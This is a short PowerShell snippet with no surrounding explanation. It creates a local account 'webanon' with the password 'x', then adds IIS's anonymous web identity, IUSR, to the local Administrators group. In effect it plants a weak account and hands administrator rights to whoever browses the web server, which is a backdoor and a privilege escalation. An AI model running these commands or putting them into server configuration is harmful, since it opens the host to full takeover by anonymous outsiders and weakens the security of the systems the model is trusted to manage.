Install-CUser -Credential (New-Object pscredential 'webanon', (ConvertTo-SecureString 'x' -AsPlainText -Force))
if (Get-LocalUser webanon -ErrorAction SilentlyContinue) { net localgroup Administrators IUSR /add }
